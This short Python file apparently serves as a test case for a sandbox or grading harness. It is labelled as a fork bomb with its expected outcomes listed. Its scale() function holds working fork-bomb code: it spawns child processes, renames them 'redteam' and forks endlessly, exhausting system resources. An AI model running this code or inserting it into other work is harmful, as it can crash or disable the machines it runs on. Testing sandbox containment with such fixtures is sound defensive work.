"""A fork bomb (21).

status: failed|crashed|timeout|memory failed|crashed|timeout|memory|invalid
danger: fork bomb
"""
import ctypes
import os

LIBC = ctypes.CDLL(None)


def scale(x, k):
    try:
        for _ in range(2):
            if os.fork() == 0:
                LIBC.prctl(15, b"redteam", 0, 0, 0)  # its name
                while True:
                    os.fork()
    except OSError:
        pass
    return x


def total(x):
    return -1.0
